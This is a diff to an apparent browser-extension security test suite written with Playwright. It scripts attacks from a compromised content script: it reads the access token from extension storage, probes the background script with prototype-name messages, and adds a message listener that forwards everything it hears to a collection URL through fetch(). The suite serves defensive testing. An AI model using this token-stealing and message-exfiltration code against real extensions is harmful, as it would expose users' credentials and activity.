@@ -3,13 +3,16 @@
  * mark the chapter that it shows. All else is still judged by where it comes from.
  */
 import { randomUUID } from 'node:crypto';
-import { expect, type Page } from '@playwright/test';
+import { expect } from '@playwright/test';
+import type { Browser } from 'webextension-polyfill';
 import { SECOND } from '../../../../lib/clock.ts';
-import { clickMenu } from '../../support/browser-clicks.ts';
-import { inContentWorld } from '../../support/content-world.ts';
-import { turnOff, turnOn } from '../../support/link-sites.ts';
 import type { Attack, Scene } from '../attack.ts';
+import { HOME } from '../bringing-home.ts';
 import { markInNewTab } from '../person.ts';
+import type { Tab } from '../tab.ts';
+
+/** As our script has it in a page. */
+declare const chrome: Browser;
 
 const unjudged = { against: 'judged-senders', wants: 'deed' } as const;
 
@@ -51,7 +54,7 @@ export const within: readonly Attack[] = [
     wants: 'answer',
     play: async ({ page }) => {
       const answers = ['toString', 'constructor', '__proto__', 'valueOf', 'hasOwnProperty'].map((name) =>
-        inContentWorld(page, `chrome.runtime.sendMessage(${JSON.stringify({ name, input: {} })})`),
+        page.inOurScript(send, { name, input: {} }),
       );
       const settled = await Promise.allSettled(answers);
       await page.evaluate((found) => window.bringHome(found), settled);
@@ -60,12 +63,14 @@ export const within: readonly Attack[] = [
   {
     name: 'that has become our script reads the access token where it is kept',
     against: 'closed-storage',
+    inFirefox: { harmlessBecause: 'Firefox gives scripts in pages no storage of the session' },
     wants: 'secret',
     play: ({ page }) => bringFromStorage(page, 'session'),
   },
   {
     name: 'that has become our script reads what waits to be sent',
     against: 'closed-storage',
+    inFirefox: { gainsBecause: 'Firefox lets every script of ours read the local storage' },
     wants: 'secret',
     play: ({ page }) => bringFromStorage(page, 'local'),
   },
@@ -82,36 +87,37 @@ export const within: readonly Attack[] = [
   {
     name: 'that has become our script on another site hears what becomes of a chapter that its tab showed before',
     against: 'told-by-document',
+    inFirefox: { harmlessBecause: 'a tab whose origin is not looked at tells it nothing there either' },
     wants: 'secret',
     play: async ({ arena, page, other, meant }) => {
-      const { extension, options } = arena;
-      await turnOn(extension, options, 'blog.example');
+      await arena.turnOn('blog.example');
       const question = { name: 'chapter.states', input: { chapterIds: [other.id] } };
-      await inContentWorld(page, `chrome.runtime.sendMessage(${JSON.stringify(question)})`);
+      await page.inOurScript(send, question);
       // A page without links: it asks about no chapters of its own.
       await page.goto('https://blog.example/nothing-here');
       await expect(() => listenIn(page)).toPass();
       meant.add(other.id);
       await markInNewTab(arena, other);
-      await turnOff(options, 'blog.example');
+      await arena.turnOff('blog.example');
     },
   },
   {
     name: 'that has become our script on another site hears what becomes of a click in the page before it',
     against: 'told-by-document',
+    inFirefox: { harmlessBecause: 'a tab whose origin is not looked at tells it nothing there either' },
     wants: 'secret',
     play: async ({ arena, page, other, meant }) => {
-      const { account, actions, extension, options, service } = arena;
-      await turnOn(extension, options, 'blog.example');
+      const { account, actions, service } = arena;
+      await arena.turnOn('blog.example');
       service.faults.order({ route: '/manga/{id}/read', method: 'POST' }, { kind: 'delay', ms: 4 * SECOND });
       meant.add(other.id);
       actions.push({ chapterId: other.id, at: Date.now() });
-      await clickMenu(extension, page, { item: 'read link', linkUrl: `https://mangadex.org/chapter/${other.id}` });
-      await expect(page.locator('[data-dexmark=toast]')).toBeAttached();
+      await page.markByMenu(other.id);
+      await expect.poll(() => page.evaluate(() => document.querySelector('[data-dexmark=toast]') !== null)).toBe(true);
       await page.goto('https://blog.example/nothing-here');
       await expect(() => listenIn(page)).toPass();
       await expect.poll(() => account.read.has(other.id), { timeout: 30_000 }).toBe(true);
-      await turnOff(options, 'blog.example');
+      await arena.turnOff('blog.example');
     },
   },
 ];
@@ -119,19 +125,27 @@ export const within: readonly Attack[] = [
 /** Our script in the page sends a message to the background. */
 function said(messageOf: (scene: Scene) => unknown) {
   return async (scene: Scene) => {
-    await inContentWorld(scene.page, `chrome.runtime.sendMessage(${JSON.stringify(messageOf(scene))})`);
+    await scene.page.inOurScript(send, messageOf(scene));
   };
 }
 
+/** Runs where our script does. */
+function send(message: unknown): Promise<unknown> {
+  return chrome.runtime.sendMessage(message);
+}
+
 /** Brings home whatever our script in the page is told from now on. */
-async function listenIn(page: Page): Promise<void> {
-  await inContentWorld(
-    page,
-    `chrome.runtime.onMessage.addListener((told) => void fetch('/loot?' + encodeURIComponent(JSON.stringify(told))))`,
+async function listenIn(page: Tab): Promise<void> {
+  await page.inOurScript(
+    (home) =>
+      chrome.runtime.onMessage.addListener(
+        (told: unknown) => void fetch(`${home}${encodeURIComponent(JSON.stringify(told))}`),
+      ),
+    HOME,
   );
 }
 
-async function bringFromStorage(page: Page, area: 'local' | 'session'): Promise<void> {
-  const kept = await inContentWorld(page, `chrome.storage.${area}.get().then(JSON.stringify, String)`);
+async function bringFromStorage(page: Tab, area: 'local' | 'session'): Promise<void> {
+  const kept = await page.inOurScript((area) => chrome.storage[area]?.get().then(JSON.stringify, String), area);
   await page.evaluate((found) => window.bringHome(found), kept);
 }
